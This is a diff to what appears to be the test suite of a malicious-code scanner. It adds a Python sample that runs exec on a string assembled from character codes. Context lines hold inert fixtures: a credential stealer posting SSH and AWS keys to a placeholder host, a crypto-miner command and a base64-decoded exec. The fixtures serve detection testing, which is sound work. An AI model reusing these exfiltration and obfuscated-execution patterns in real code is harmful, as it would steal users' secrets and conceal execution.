@@ -541,6 +541,7 @@ fn python_positives() -> Vec<(&'static str, &'static str, Vec<u8>)> {
     let stealer = b"import os, urllib.request\ndef f():\n    t = ['~/.ssh/id_rsa', '~/.aws/credentials']\n    urllib.request.urlopen('https://c.example.invalid', data=str(t).encode())\n";
     vec![
         ("python-exec-decoded", "m.py", b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n".to_vec()),
+        ("python-exec-computed", "m.py", b"exec(''.join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))\n".to_vec()),
         ("python-hidden-process", "m.py", b"import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'print(1)'], stdout=subprocess.DEVNULL)\n".to_vec()),
         ("python-miner", "m.py", b"import os\ndef f():\n    os.system('echo xmrig -o stratum+tcp://pool.example.invalid')\n".to_vec()),
         ("python-shell-command", "m.py", b"import os\nos.system('echo hi')\n".to_vec()),
